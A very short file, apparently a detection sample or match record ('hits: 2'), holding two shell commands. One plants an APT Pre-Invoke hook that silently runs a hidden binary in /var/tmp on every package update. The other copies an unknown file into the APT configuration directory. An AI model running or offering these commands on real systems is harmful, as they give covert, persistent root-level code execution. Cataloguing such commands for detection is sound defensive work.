# SPDX-License-Identifier: Apache-2.0
# hits: 2
sh -c "echo 'APT::Update::Pre-Invoke {\"nohup /var/tmp/.d &\"};' > /etc/apt/apt.conf.d/10periodic2"
cp /tmp/h /etc/apt/apt.conf.d/99cache
